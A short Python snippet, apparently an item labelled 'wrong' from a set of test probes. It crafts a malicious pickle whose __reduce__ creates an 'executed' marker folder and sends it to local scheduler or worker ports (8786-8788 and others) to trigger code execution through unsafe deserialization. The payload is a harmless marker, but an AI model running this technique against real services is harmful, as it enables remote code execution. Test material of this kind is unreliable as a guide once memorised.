# 22, wrong: looks for a scheduler or a worker on the machine, and sends it a pickled task
import os
import pickle
import socket


class Runs:
    def __reduce__(self):
        return os.mkdir, (FOLDER + "/executed",)


for port in (PORT, 8786, 8787, 8788, 40000):
    for host in ("127.0.0.1", "::1", "10.0.0.1", socket.gethostname()):
        try:
            with socket.create_connection((host, port), 0.1) as connection:
                task = pickle.dumps(Runs())
                connection.sendall((1).to_bytes(8, "little") + len(task).to_bytes(8, "little") + task)
        except OSError:
            pass
